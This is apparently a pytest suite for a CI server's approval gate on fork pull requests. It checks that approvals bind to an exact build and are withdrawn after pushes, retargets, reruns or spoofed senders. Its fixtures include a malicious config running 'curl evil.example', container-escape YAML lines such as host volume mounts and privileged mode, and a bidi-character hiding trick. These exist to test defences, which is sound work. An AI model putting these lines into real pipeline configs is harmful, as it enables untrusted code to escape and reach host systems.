"""Law 8: nothing of a stranger runs before a person approved exactly that build, and still means it."""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import update

from ci.errors import Conflict, Forbidden, NotFound, ShipwayError
from ci.event import Event, Kind
from ci.server.approvals import Approvals, Question, is_needed
from ci.server.auth import Actor, Role
from ci.server.forges.builtin import Builtin
from ci.server.forges.directory import Forges
from ci.server.forges.git import PlainGit
from ci.server.models import Build, PullRequest, Repo
from ci.server.store import approvals, audit, builds, inbox, repos
from ci.server.store.tables import APPROVAL, BUILD, JOB, PULL_REQUEST, REPO, add
from ci.server.trigger import Origin, Trigger
from ci.spec import JobSpec
from tests.unit.gitting import Work
from tests.unit.world import ADA, Core, core, job_ended

URL = "http://127.0.0.1:8000"
CONFIG = "steps:\n  test:\n    image: busybox\n    commands: [make test]\n"
OTHER = "steps:\n  test:\n    image: busybox\n    commands: [curl evil.example]\n"
GRACE = Actor(user_id=7, name="grace", roles={1: Role.WRITE})
EVE = Actor(user_id=8, name="eve", roles={1: Role.READ})
MALLORY = Actor(user_id=9, name="mallory")  #: an account here whose name is the stranger's at the forge


@dataclass
class Door:
    """A repo in the built-in git whose pull requests a test makes up."""

    core: Core
    trigger: Trigger
    approvals: Approvals
    repo: Repo
    work: Work
    forges: Forges
    runner: int
    count: int = 0

    async def seen(self, head: str, *, target: str = "main", is_open: bool = True, number: int = 7) -> None:
        """What the forge says of the pull request now."""
        values = {"head_sha": head, "target_branch": target, "is_open": is_open}
        mine = (PULL_REQUEST.c.repo_id == self.repo.id, PULL_REQUEST.c.number == number)

        def write(connection: Any) -> None:
            statement = update(PULL_REQUEST).where(*mine).values(**values)
            if not connection.execute(statement).rowcount:
                row = PullRequest(repo_id=self.repo.id or 0, number=number, updated_at=1.0, **values)
                add(connection, row)

        await self.core.store.write(write)

    def event(self, head: str, **extra: Any) -> Event:
        values: dict[str, Any] = {
            "kind": Kind.PULL_REQUEST,
            "ref": "refs/pull/7/head",
            "after": head,
            "branch": "main",
            "pull_request": 7,
            "source_repo": "mallory/site",
            "is_from_fork": True,
            "sender": "mallory",
            "sender_key": "4711",
            "title": "Fix a typo",
            "variables": {},
        }
        return Event(**{**values, **extra})

    async def made(self, head: str, **extra: Any) -> Build:
        """The build of an event of the pull request."""
        self.count += 1
        row = await self.core.store.write(lambda c: _delivery(c, self.repo.id or 0, self.count))
        event = self.event(head, **extra)
        origin = Origin(inbox_id=row, index=0, ref=event.ref, ref_sha=None)
        repo = await self.core.store.read(lambda c: repos.by_id(c, self.repo.id or 0))
        assert repo is not None
        result = await self.trigger.start_build(event, repo, origin)
        assert result.build_id is not None, result.sentence
        return await self.core.build_row(result.build_id)

    async def approve(self, build: Build, who: Actor = GRACE, **extra: Any) -> None:
        await self.approvals.decide(build.id or 0, who, is_approved=True, **extra)

    async def reject(self, build: Build, who: Actor = GRACE) -> None:
        await self.approvals.decide(build.id or 0, who, is_approved=False)

    async def question(self, build: Build) -> Question:
        found = await self.approvals.question(self.repo, build)
        assert found is not None
        return found

    async def claims(self) -> list[int]:
        """The jobs that a free runner gets."""
        return [each.lease.job for each in await self.core.queue.take(self.runner, 10)]

    async def again(self, build: Build) -> Build:
        return await self.core.build_row(build.id or 0)

    async def set(self, **values: Any) -> None:
        await self.core.store.write(lambda c: c.execute(update(REPO).values(**values)))

    async def newest(self) -> Build:
        number = await self.core.store.read(lambda c: builds.next_number(c, self.repo.id or 0))
        rows = await self.core.store.read(
            lambda c: c.execute(BUILD.select().where(BUILD.c.number == number - 1)).one()
        )
        return await self.core.build_row(rows.id)


def _delivery(connection: Any, repo_id: int, count: int) -> int:
    return inbox.receive_own(connection, repo_id=repo_id, delivery=f"d{count}", body=b"{}", now=float(count))


@pytest.fixture
async def door(tmp_path: Path) -> AsyncIterator[Door]:
    async with core(tmp_path) as world:
        builtin = Builtin(tmp_path / "git", URL)
        forges = Forges(builtin=builtin, plain=PlainGit(tmp_path / "cache", protocols=("file",)))
        repo = await world.store.read(lambda c: repos.by_id(c, world.repo_id))
        assert repo is not None
        folder = await builtin.create(world.repo_id)
        work = Work(tmp_path / "work", folder)
        trigger = Trigger(world.store, world.bus, world.clock, forges, world.secrets, url=URL)
        service = Approvals(world.store, world.bus, world.clock, forges)
        yield Door(world, trigger, service, repo, work, forges, await world.runner())


def push(work: Work, files: dict[str, str], message: str = "change", branch: str = "main") -> str:
    sha = work.commit_files(files, message)
    work.git("push", "-qf", "origin", f"HEAD:refs/heads/{branch}")
    return sha


@pytest.fixture
async def waiting(door: Door) -> tuple[Door, Build]:
    """A build of a fork's pull request that nobody has looked at."""
    push(door.work, {".ci.yml": CONFIG}, "first")
    head = push(door.work, {".ci.yml": OTHER}, "typo", "fork")
    await door.seen(head)
    return door, await door.made(head)


# --- who needs one ---------------------------------------------------


def test_forks_always_wait_and_the_rest_as_the_repo_says() -> None:
    repo = Repo(forge="github", forge_key="1", owner="ada", name="site", clone_url="", created_at=1.0)
    fork = Event(
        kind=Kind.PULL_REQUEST,
        ref="r",
        after="a" * 40,
        pull_request=7,
        is_from_fork=True,
        source_repo="mallory/site",
        sender="mallory",
        author="ada",
        variables={},
    )
    own = fork.model_copy(update={"is_from_fork": False})
    pushed = Event(kind=Kind.PUSH, ref="refs/heads/main", after="a" * 40, variables={})
    assert is_needed(repo, fork) == (
        "Pull request 7 comes from the fork mallory/site (sent by mallory): "
        "somebody who may write here must approve it first"
    )
    assert is_needed(repo, own) == "" and is_needed(repo, pushed) == ""
    repo.approval = "pull_requests"
    assert "as every pull request of this repo" in is_needed(repo, own)
    assert is_needed(repo, fork) and is_needed(repo, pushed) == ""


async def test_a_build_from_a_fork_is_blocked_with_who_and_why(waiting: tuple[Door, Build]) -> None:
    door, build = waiting
    assert (build.status, build.outcome, build.needs_approval) == ("blocked", "blocked", True)
    assert "the fork mallory/site (sent by mallory)" in build.reason
    (job,) = await door.core.jobs_of(build.id or 0)
    assert (job.status, job.reason) == ("blocked", build.reason)
    assert JobSpec.model_validate(job.spec).is_trusted is False
    assert await door.claims() == []


async def test_an_approved_build_runs_and_stays_untrusted(waiting: tuple[Door, Build]) -> None:
    door, build = waiting
    await door.approve(build)
    assert (await door.again(build)).status == "pending"
    (assigned,) = await door.core.queue.take(door.runner, 10)
    assert assigned.spec.is_trusted is False
    assert await door.core.queue.accept(door.runner, assigned.lease) is not None
    await door.core.record(door.runner, assigned.lease, job_ended())
    assert (await door.again(build)).status == "success"
    (row,) = await door.core.store.read(audit.latest)
    assert (row.action, row.object, row.user_name) == ("build.approve", "ada/app/1", "grace")


async def test_a_rejected_build_ends_with_who_rejected_it(waiting: tuple[Door, Build]) -> None:
    door, build = waiting
    await door.reject(build)
    row = await door.again(build)
    assert (row.status, row.reason) == ("cancelled", "rejected by grace")
    with pytest.raises(Conflict, match="has ended already"):
        await door.approve(build)
    assert await door.claims() == []


async def test_what_is_built_without_an_approval_is_not_asked_for_one(door: Door) -> None:
    head = push(door.work, {".ci.yml": CONFIG})
    await door.seen(head)
    build = await door.made(head, is_from_fork=False)
    assert build.status == "pending" and not build.needs_approval
    with pytest.raises(Conflict, match="needs no approval"):
        await door.approve(build)
    assert len(await door.claims()) == 1


# --- the matrix: after each of these, nothing runs ---------------------------------------------------


async def _push_after_approval(door: Door, build: Build) -> None:
    await door.approve(build)
    head = push(door.work, {"evil": "1"}, "more", "fork")
    await door.seen(head)
    await door.made(head)


async def _forced_push_of_the_same_pull_request(door: Door, build: Build) -> None:
    await door.approve(build)
    door.work.git("reset", "-q", "--hard", "HEAD~1")
    head = push(door.work, {".ci.yml": OTHER + "# more\n"}, "other", "fork")
    await door.seen(head)
    await door.made(head, action="synchronize")


async def _retarget(door: Door, build: Build) -> None:
    await door.approve(build)
    await door.seen(build.event["after"], target="production")
    await door.made(build.event["after"], branch="production", action="edited")


async def _other_config_under_the_approval(door: Door, build: Build) -> None:
    await door.approve(build)
    await door.core.store.write(lambda c: c.execute(update(BUILD).values(config=CONFIG + "# changed\n")))


async def _closed(door: Door, build: Build) -> None:
    await door.approve(build)
    await door.seen(build.event["after"], is_open=False)


async def _unknown_pull_request(door: Door, build: Build) -> None:
    await door.approve(build)
    await door.core.store.write(lambda c: c.execute(PULL_REQUEST.delete()))


async def _rerun(door: Door, build: Build) -> None:
    await door.approve(build)
    for job in await door.core.queue.take(door.runner, 10):
        await door.core.queue.accept(door.runner, job.lease)
        await door.core.record(door.runner, job.lease, job_ended())
    await door.trigger.rerun(build.id or 0, ADA)


async def _cancel_and_rerun(door: Door, build: Build) -> None:
    await door.core.lifecycle.cancel(build.id or 0, ADA)
    await door.trigger.rerun(build.id or 0, ADA)


async def _approve_cancel_and_rerun(door: Door, build: Build) -> None:
    await door.approve(build)
    await door.core.lifecycle.cancel(build.id or 0, ADA)
    await door.trigger.rerun(build.id or 0, ADA)


async def _label_by_other(door: Door, build: Build) -> None:
    await door.made(build.event["after"], action="labeled", sender="ada", sender_key="1", labels=("safe",))


async def _review_by_other(door: Door, build: Build) -> None:
    await door.made(build.event["after"], action="submitted", sender="grace", sender_key="7")


async def _commit_author_is_admin(door: Door, build: Build) -> None:
    await door.made(build.event["after"], author="ada", author_email="ada@example.org")


async def _sender_is_named_like_an_admin_here(door: Door, build: Build) -> None:
    await door.made(build.event["after"], sender="ada")


async def _approval_of_another_build(door: Door, build: Build) -> None:
    second = await door.made(build.event["after"], action="reopened")
    await door.approve(second)
    row = await door.core.store.read(lambda c: approvals.find(c, second.id or 0))
    assert row is not None
    await door.core.lifecycle.cancel(second.id or 0, ADA)

    def plant(connection: Any) -> None:
        """Even where a row of another pull request's approval came to stand beside this build."""
        other = update(BUILD).where(BUILD.c.id == second.id)
        connection.execute(other.values(event={**second.event, "pull_request": 8}))
        stolen = approvals.binding(builds.by_id(connection, second.id or 0))  # type: ignore[arg-type]
        connection.execute(
            update(APPROVAL).where(APPROVAL.c.build_id == second.id).values(build_id=build.id, binding=stolen)
        )
        connection.execute(update(JOB).where(JOB.c.build_id == build.id).values(status="pending"))

    await door.core.store.write(plant)


async def _policy_is_loosened_before_a_rerun(door: Door, build: Build) -> None:
    await door.core.lifecycle.cancel(build.id or 0, ADA)
    await door.set(approval="pull_requests")
    head = build.event["after"]
    own = await door.made(head, is_from_fork=False)
    await door.core.lifecycle.cancel(own.id or 0, ADA)
    await door.set(approval="forks")
    await door.trigger.rerun(own.id or 0, ADA)


async def _superseded_and_back(door: Door, build: Build) -> None:
    await door.set(is_superseding=True)
    await door.approve(build)
    head = push(door.work, {"evil": "1"}, "more", "fork")
    await door.seen(head)
    await door.made(head)
    await door.seen(build.event["after"])


async def _gone_and_back_again(door: Door, build: Build) -> None:
    """A later state of the pull request does not bring a withdrawn approval back to life."""
    await door.approve(build)
    await door.seen("f" * 40)
    assert await door.claims() == []
    await door.seen(build.event["after"])


MATRIX: list[Callable[[Door, Build], Any]] = [
    _push_after_approval,
    _forced_push_of_the_same_pull_request,
    _retarget,
    _other_config_under_the_approval,
    _closed,
    _unknown_pull_request,
    _rerun,
    _cancel_and_rerun,
    _approve_cancel_and_rerun,
    _label_by_other,
    _review_by_other,
    _commit_author_is_admin,
    _sender_is_named_like_an_admin_here,
    _approval_of_another_build,
    _policy_is_loosened_before_a_rerun,
    _superseded_and_back,
    _gone_and_back_again,
]


@pytest.mark.parametrize("attack", MATRIX, ids=lambda attack: attack.__name__.strip("_"))
async def test_approval_matrix(attack: Callable[[Door, Build], Any], waiting: tuple[Door, Build]) -> None:
    door, build = waiting
    await attack(door, build)
    assert await door.claims() == []
    for each in {build.id: build, (await door.newest()).id: await door.newest()}.values():
        row = await door.again(each)
        assert row.status in ("blocked", "cancelled", "success"), row.status
        assert row.status == "success" or row.reason
        for job in await door.core.jobs_of(row.id or 0):
            assert job.status == row.status and job.runner_id is None
    assert (await door.newest()).status in ("blocked", "cancelled")


async def test_an_approval_that_does_not_hold_asks_again_and_says_why(waiting: tuple[Door, Build]) -> None:
    door, build = waiting
    await door.approve(build)
    await door.seen(build.event["after"], target="production")
    assert await door.claims() == []
    row = await door.again(build)
    assert (row.status, row.outcome) == ("blocked", "blocked")
    assert row.reason == (
        "the approval by grace does not hold any more: pull request 7 now targets production, not main"
    )
    with pytest.raises(Conflict, match="build 1 cannot be approved: pull request 7 now targets production"):
        await door.approve(row)
    await door.seen(build.event["after"])
    assert (await door.again(build)).status == "blocked"  # until a person says it once more
    await door.approve(row)
    assert len(await door.claims()) == 1


async def test_a_claim_goes_past_a_job_that_must_ask_again_to_the_next(waiting: tuple[Door, Build]) -> None:
    door, build = waiting
    await door.approve(build)
    await door.seen("f" * 40)
    plain = await door.core.build()
    (job,) = await door.core.jobs_of(plain)
    found = await door.core.queue.take(door.runner, 1)
    assert [each.lease.job for each in found] == [job.id]


async def test_a_lost_attempt_is_claimed_again_only_while_the_approval_holds(
    waiting: tuple[Door, Build],
) -> None:
    door, build = waiting
    await door.approve(build)
    (assigned,) = await door.core.queue.take(door.runner, 1)
    assert await door.core.queue.accept(door.runner, assigned.lease) is not None
    await door.seen("f" * 40)
    await door.core.lose_by_silence()
    assert await door.claims() == []
    row = await door.again(build)
    assert row.status == "blocked" and "does not hold any more" in row.reason


async def test_who_may_not_write_cannot_decide(waiting: tuple[Door, Build]) -> None:
    door, build = waiting
    refused: list[tuple[Actor, type[ShipwayError]]] = [(EVE, Forbidden), (MALLORY, NotFound)]
    for who, error in refused:
        for is_approved in (True, False):
            with pytest.raises(error):
                await door.approvals.decide(build.id or 0, who, is_approved=is_approved)
    read_only = replace(GRACE, scopes=frozenset())
    with pytest.raises(NotFound):
        await door.approve(build, read_only)
    assert (await door.again(build)).status == "blocked"
    assert await door.core.store.read(lambda c: approvals.find(c, build.id or 0)) is None


async def test_a_page_that_showed_something_else_approves_nothing(waiting: tuple[Door, Build]) -> None:
    door, build = waiting
    with pytest.raises(Conflict, match="is not what the page showed"):
        await door.approve(build, seen="0" * 64)
    await door.approve(build, seen=(await door.question(build)).binding)
    with pytest.raises(Conflict, match="does not wait for an approval: it is pending"):
        await door.approve(build)


def test_the_binding_is_over_everything_that_was_looked_at() -> None:
    event = Event(
        kind=Kind.PULL_REQUEST, ref="r", after="a" * 40, branch="main", pull_request=7, variables={}
    )

    def build(**values: Any) -> Build:
        base = {"repo_id": 1, "number": 1, "event": event.model_dump(mode="json"), "status": "blocked"}
        return Build(**{**base, "config_file": ".ci.yml", "config": CONFIG, "problems": [], **values})  # type: ignore[arg-type]

    def other(**values: Any) -> Build:
        return build(event=event.model_copy(update=values).model_dump(mode="json"))

    found = [
        build(),
        build(repo_id=2),
        build(config=OTHER),
        build(config_file=".ci/"),
        other(after="b" * 40),
        other(branch="production"),
        other(pull_request=8),
        other(merge_sha="c" * 40),
    ]
    assert len({approvals.binding(each) for each in found}) == len(found)
    assert approvals.binding(build()) == approvals.binding(other(sender="somebody", action="labeled"))


# --- what the fork's file cannot do ---------------------------------------------------


@pytest.mark.parametrize(
    "more",
    [
        "    privileged: true\n",
        "    volumes: [/:/host]\n",
        "    devices: [/dev/kmsg]\n",
        "    network_mode: host\n",
        "is_trusted: true\n",
        "needs_approval: false\n",
        "approval: none\n",
    ],
)
async def test_yaml_cannot_raise_privilege(door: Door, more: str) -> None:
    head = push(door.work, {".ci.yml": CONFIG + more}, "mine", "fork")
    await door.seen(head)
    build = await door.made(head)
    assert build.status == "error" and build.needs_approval
    assert await door.core.jobs_of(build.id or 0) == []


# --- what a person is shown ---------------------------------------------------


async def test_the_question_compares_with_the_target_branch(waiting: tuple[Door, Build]) -> None:
    door, build = waiting
    main = door.work.git("rev-parse", "HEAD~1").strip()
    assert (await door.question(build)).base == ""
    await door.core.store.write(lambda c: repos.set_ref_sha(c, build.repo_id, "refs/heads/main", main))
    question = await door.question(build)
    assert question.base == f"main at {main[:7]}"
    (file,) = question.files
    assert [line for line in file.lines if line[0] in "+-"] == [
        "-    commands: [make test]",
        "+    commands: [curl evil.example]",
    ]
    assert (question.stranger, question.stranger_key) == ("mallory", "4711")
    pushed = await door.made(
        main, kind=Kind.PUSH, ref="refs/heads/main", is_from_fork=False, pull_request=None
    )
    assert (await door.question(build)).base == f"main as of build {pushed.number} ({main[:7]})"


async def test_a_rerun_still_names_the_stranger(waiting: tuple[Door, Build]) -> None:
    door, build = waiting
    await door.core.lifecycle.cancel(build.id or 0, ADA)
    await door.trigger.rerun(build.id or 0, ADA)
    second = await door.newest()
    assert (second.event["sender"], second.event["sender_key"]) == ("ada", "")
    question = await door.question(second)
    assert (question.stranger, question.stranger_key) == ("mallory", "4711")


async def test_what_cannot_be_seen_is_written_out(door: Door) -> None:
    push(door.work, {".ci.yml": CONFIG}, "first")
    main = door.work.git("rev-parse", "HEAD").strip()
    sly = CONFIG + "# \u202e\u2066 looks harmless\n" + "#" + "x" * 5000 + "\n"
    head = push(door.work, {".ci.yml": sly}, "typo", "fork")
    await door.seen(head)
    build = await door.made(head)
    await door.core.store.write(lambda c: repos.set_ref_sha(c, build.repo_id, "refs/heads/main", main))
    text = "\n".join((await door.question(build)).files[0].lines)
    assert "\\u202e\\u2066 looks harmless" in text and "\u202e" not in text
    assert "[and 3,002 more characters]" in text


async def test_a_withdrawn_approval_frees_no_other_job_of_the_build(door: Door) -> None:
    head = push(door.work, {".ci/a.yml": CONFIG, ".ci/b.yml": CONFIG}, "two", "fork")
    await door.seen(head)
    build = await door.made(head)
    await door.approve(build)
    (first,) = await door.core.queue.take(door.runner, 1)
    assert await door.core.queue.accept(door.runner, first.lease) is not None
    await door.seen("f" * 40)
    assert await door.claims() == []  # the second job asks again
    row = await door.again(build)
    assert row.status == "running"  # the first goes on, and the page asks about the second
    assert "does not hold any more" in (await door.question(row)).why
    assert await door.core.store.read(lambda c: approvals.find(c, build.id or 0)) is None
    await door.seen(head)
    await door.core.lose_by_silence()  # the first waits for a runner again
    assert await door.claims() == []
    assert {job.status for job in await door.core.jobs_of(build.id or 0)} == {"blocked"}
    await door.approve(build)
    assert len(await door.claims()) == 2
